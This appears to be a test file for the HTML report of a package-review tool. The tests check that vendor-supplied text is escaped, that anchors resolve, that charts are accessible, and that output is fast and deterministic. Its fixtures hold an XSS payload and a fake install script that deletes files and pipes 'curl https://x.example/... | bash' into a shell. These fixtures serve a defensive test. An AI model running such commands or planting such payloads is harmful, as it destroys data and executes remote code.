import assert from 'node:assert/strict';
import { style } from '../../../src/core/report/html/style';
import { builtInCatalog } from '../../../src/core/catalog/built-in';
import { importInventory } from '../../../src/core/inventory/import';
import { html } from '../../../src/core/report/formats/html';
import { reportFormats } from '../../../src/core/report/formats/index';
import { reviewPackage, type Review } from '../../../src/core/review/review';
import { rules } from '../../../src/core/rules/index';
import { cpuTime } from '../../support/cpu-time';
import { memorySource } from '../../support/memory-source';

const context = { generatedAt: '2026-11-20T12:00:00Z', toolVersion: '1.2.3', patched: [] };

/** What a vendor could write to get into a page. */
const hostile = '"><script>alert(1)</script><img src=x onerror=alert(1)>\u202e';

const host = { name: hostile, packages: [{ name: 'jq', version: '1.5', type: 'deb' }], config: { [`key.${hostile}`]: hostile } };

const reviewOf = (files: Readonly<Record<string, string>>): Promise<Review> =>
  reviewPackage({
    source: memorySource('package.zip', files),
    inventory: importInventory('inventory.json', JSON.stringify({ environments: [{ name: 'production', hosts: [host] }] })).inventory,
    catalog: builtInCatalog,
    rules,
    environment: 'production',
  });

const files = {
  'manifest.json': JSON.stringify({
    name: hostile,
    version: hostile,
    vendor: hostile,
    dependencies: { [hostile]: hostile, jq: '>=1.6 <2' },
  }),
  [`scripts/10-install.sh`]: `#!/bin/bash\nset -e\nrm -rf "$UNSET/${hostile.replaceAll('"', '')}"\nsystemctl stop '${hostile}'\ncurl -k 'https://x.example/${hostile}' | bash\n`,
  [`config/${hostile.replaceAll('/', '_')}.yaml`]: `a: "${hostile.replaceAll('"', '')}"\n`,
  'migrations/1.sql': 'ALTER TABLE a ADD COLUMN b int;\n',
};

describe('HTML report', () => {
  let report: string;
  let review: Review;
  before(async () => {
    review = await reviewOf(files);
    report = html.write(review, context);
  });

  it('has nothing of a package but as text', () => {
    const tags = report.replace(/<style>[^]*?<\/style>/, '').match(/<[^>]*>?/g) ?? [];
    const names = new Set(tags.map((tag) => /^<!?\/?([a-zA-Z0-9]+)/.exec(tag)?.[1]));
    const known =
      'DOCTYPE html head meta title style body article main header h1 h2 h3 p small section nav ul li a b i em span code pre table thead tbody tr th td div details summary figure figcaption svg rect line text footer';
    assert.deepEqual(
      [...names].filter((name) => !known.split(' ').includes(name ?? '')),
      [],
    );
    for (const tag of tags) {
      assert.match(tag, /^<[^<>]*>$/);
      assert.doesNotMatch(tag.replace(/"[^"]*"/g, '""'), /\son\w+=|\ssrc=|\sstyle=/);
      for (const [, address = ''] of tag.matchAll(/\shref="([^"]*)"/g)) assert.match(address, /^#[\w-]+$/);
    }
    assert.ok(!report.includes('\u202e') && report.includes('\\u{202e}'));
    assert.match(report, /default-src 'none'/);
  });

  it('has every section, and anchors that lead to one each', () => {
    const titles = [...report.matchAll(/<h2>([^<]*)<\/h2>/g)].map(([, title]) => title?.replace(/ \(\d+\)$/, ''));
    const expected = [
      'For the meeting',
      'Identity and signatures',
      'Blockers',
      'What this upgrade does',
      'What changed',
      'Dependency matrix',
    ];
    expected.push(
      'Configuration',
      'Migrations',
      'Scripts, units, schedules and endpoints',
      'Side effects and rollback',
      'What was checked',
    );
    for (const title of [...expected, 'Not checked', 'Evidence', 'Rules']) assert.ok(titles.includes(title), title);
    for (const page of [report, html.join([report, report])]) {
      const ids = [...page.matchAll(/\sid="([^"]*)"/g)].map(([, id]) => id);
      assert.equal(new Set(ids).size, ids.length);
      for (const [, id] of page.matchAll(/\shref="#([^"]*)"/g)) assert.ok(ids.includes(id), id);
    }
  });

  it('tells every picture to who cannot see it', () => {
    const pictures = report.match(/<svg [^>]*>/g) ?? [];
    const labels = pictures.map((picture) => /aria-label="([\w ]*)/.exec(picture)?.[1]);
    assert.deepEqual(labels, ['Findings by group', 'Risk by axis', 'Dependencies on each host', 'Time line of the window']);
    for (const picture of pictures) assert.match(picture, /role="img" aria-label="[^"]{20,}"/);
  });

  it('is the same for the same review', () => assert.equal(html.write(review, context), report));

  it('of thousands of findings is made in a second, and has less than 3 MB', () => {
    const [first] = review.findings;
    assert.ok(first);
    const many = Array.from({ length: 5000 }, (_, at) => {
      const like = review.findings[at % review.findings.length] ?? first;
      return { ...like, fingerprint: String(at), path: `scripts/a-folder-of-many/script-number-${at}.sh` };
    });
    const large = { ...review, findings: many };
    for (const format of reportFormats) {
      const started = cpuTime();
      const result = format.write(large, context);
      const milliseconds = cpuTime() - started;
      assert.ok(milliseconds < 1000, `${format.id}: ${milliseconds} ms`);
      if (format.id === 'html') assert.ok(result.length < 3_000_000, `${result.length} characters`);
    }
  });

  it('is dark on screens alone: paper is white whatever the reader has chosen', () => {
    const dark = [...style.matchAll(/@media ([^{]*prefers-color-scheme: ?dark[^{]*)\{/g)].map(([, query]) => query);
    assert.deepEqual(dark, ['screen and (prefers-color-scheme:dark)']);
  });
});
